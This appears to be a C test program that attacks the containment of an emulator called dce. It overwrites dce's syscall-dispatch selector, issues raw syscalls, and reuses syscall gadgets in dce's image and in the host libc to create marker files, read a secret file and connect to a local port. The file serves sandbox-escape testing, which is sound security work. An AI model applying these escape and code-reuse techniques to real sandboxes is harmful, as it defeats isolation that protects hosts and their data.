/* escape - an adversarial program: tries to leave the emulation the ways the
 * containment issue describes, with dce's addresses handed to it (an attacker
 * knows the binary; the test runs dce-run without ASLR and reads its symbols).
 *
 *   escape store SELECTOR MARKERDIR SECRETFILE PORT
 *       write ALLOW (0) into dce's Syscall User Dispatch selector, then make raw
 *       system calls: create MARKERDIR/escaped, read SECRETFILE, connect to
 *       127.0.0.1:PORT; put the selector back and print what each call returned.
 *   escape gadget EXEMPT_END MARKERDIR
 *       jump to dce's exempt `syscall` instruction (just before EXEMPT_END) with
 *       openat(MARKERDIR/gadget, O_CREAT) in the registers; never returns.
 *   escape reuse SELECTOR MARKERDIR SECRETFILE PORT GOTSLOT
 *       as store, but through a `syscall; ret` in the host's libc, found from the
 *       libc address in dce-run's GOT slot GOTSLOT: code reuse passes the seccomp
 *       filter, so this is what the namespaces alone must contain.
 *   escape image SELECTOR SYSCALL MARKERDIR
 *       as store's file creation, through the `syscall` at address SYSCALL inside
 *       dce's own image (dce_setfs_syscall: syscall; 5 pops; ret).
 *   escape clear SELECTOR
 *       write ALLOW into the selector and carry on as if nothing happened: every
 *       later call of its libc reaches the host kernel and fails.
 *   escape spin GCYCLES
 *       spin in user code for GCYCLES x 1e9 TSC cycles (no system call): wall time
 *       during which the test inspects the running dce-run. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <x86intrin.h>

static long raw(long n, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
	                 : "rcx", "r11", "memory");
	return r;
}

static unsigned long gadget_addr;

static long via_gadget(long n, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("call *%[g]" : "=a"(r) : [g] "r"(gadget_addr), "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
	                 : "rcx", "r11", "memory");
	return r;
}

/* dce-run's GOT slot of a libc function it has called (prctl) points into the
 * host's libc; a `syscall; ret` follows within a few KiB. */
static unsigned long find_gadget(const char *slot)
{
	const unsigned char *c = *(const unsigned char **)strtoul(slot, NULL, 0);
	for (long off = 0; off < (1L << 20); off++)
		if (c[off] == 0x0f && c[off + 1] == 0x05 && c[off + 2] == 0xc3)
			return (unsigned long)(c + off);
	return 0;
}

static int store(char **av)
{
	volatile unsigned char *sel = (unsigned char *)strtoul(av[2], NULL, 0);
	char path[4096], buf[256] = "";
	snprintf(path, sizeof path, "%s/escaped", av[3]);
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(av[5])),
	                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	long create, openr, readr = 0, sock, conn = 0;
	long (*sys)(long, long, long, long, long) = raw;
	if (!strcmp(av[1], "reuse")) {
		if (!(gadget_addr = find_gadget(av[6]))) {
			printf("no gadget found\n");
			return 1;
		}
		sys = via_gadget;
	}

	*sel = 0; /* SYSCALL_DISPATCH_FILTER_ALLOW: from here on the host kernel decides */
	create = sys(SYS_openat, AT_FDCWD, (long)path, O_CREAT | O_WRONLY, 0644);
	openr = sys(SYS_openat, AT_FDCWD, (long)av[4], O_RDONLY, 0);
	if (openr >= 0)
		readr = sys(SYS_read, openr, (long)buf, sizeof buf - 1, 0);
	sock = sys(SYS_socket, AF_INET, SOCK_STREAM, 0, 0);
	if (sock >= 0)
		conn = sys(SYS_connect, sock, (long)&sa, sizeof sa, 0);
	*sel = 1; /* BLOCK again: printf below is emulated */

	printf("create %ld\nopen %ld\nread %ld %s\nsocket %ld\nconnect %ld\n", create, openr, readr,
	       readr > 0 ? buf : "-", sock, conn);
	return 0;
}

static int gadget(char **av)
{
	static char path[4096];
	snprintf(path, sizeof path, "%s/gadget", av[3]);
	unsigned long target = strtoul(av[2], NULL, 0) - 2; /* the 2-byte syscall */
	printf("jumping to %#lx\n", target);
	fflush(stdout);
	register long r10 __asm__("r10") = 0644;
	__asm__ volatile("jmp *%0" : : "r"(target), "a"((long)SYS_openat), "D"((long)AT_FDCWD), "S"(path),
	                 "d"((long)(O_CREAT | O_WRONLY)), "r"(r10) : "memory");
	return 1;
}

static int image(char **av)
{
	volatile unsigned char *sel = (unsigned char *)strtoul(av[2], NULL, 0);
	unsigned long insn = strtoul(av[3], NULL, 0);
	static char path[4096];
	snprintf(path, sizeof path, "%s/image", av[4]);
	long r = SYS_openat;
	register long rdi __asm__("rdi") = AT_FDCWD;
	register long rsi __asm__("rsi") = (long)path;
	register long rdx __asm__("rdx") = O_CREAT | O_WRONLY;
	register long r10 __asm__("r10") = 0644;
	*sel = 0;
	__asm__ volatile("subq $128, %%rsp\n\t"  /* keep the red zone */
	                 "leaq 1f(%%rip), %%r11\n\t"
	                 "pushq %%r11\n\t"
	                 "pushq $0\n\tpushq $0\n\tpushq $0\n\tpushq $0\n\tpushq $0\n\t"
	                 "jmp *%[g]\n"
	                 "1:\taddq $128, %%rsp"
	                 : "+a"(r), "+D"(rdi), "+S"(rsi), "+d"(rdx)
	                 : [g] "r"(insn), "r"(r10)
	                 : "rcx", "r11", "memory");
	*sel = 1;
	printf("image-create %ld\n", r);
	return 0;
}

int main(int argc, char **argv)
{
	if ((argc == 6 && !strcmp(argv[1], "store")) || (argc == 7 && !strcmp(argv[1], "reuse")))
		return store(argv);
	if (argc == 4 && !strcmp(argv[1], "gadget"))
		return gadget(argv);
	if (argc == 5 && !strcmp(argv[1], "image"))
		return image(argv);
	if (argc == 3 && !strcmp(argv[1], "clear")) {
		*(volatile unsigned char *)strtoul(argv[2], NULL, 0) = 0;
		printf("selector cleared\n");
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "spin")) {
		unsigned long long end = __rdtsc() + (unsigned long long)(atof(argv[2]) * 1e9);
		while (__rdtsc() < end)
			;
		printf("spun\n");
		return 0;
	}
	fprintf(stderr, "usage: escape store SELECTOR MARKERDIR SECRETFILE PORT | reuse ... PORT GOTSLOT | gadget EXEMPT_END MARKERDIR | image SELECTOR SYSCALL MARKERDIR | clear SELECTOR | spin GCYCLES\n");
	return 2;
}
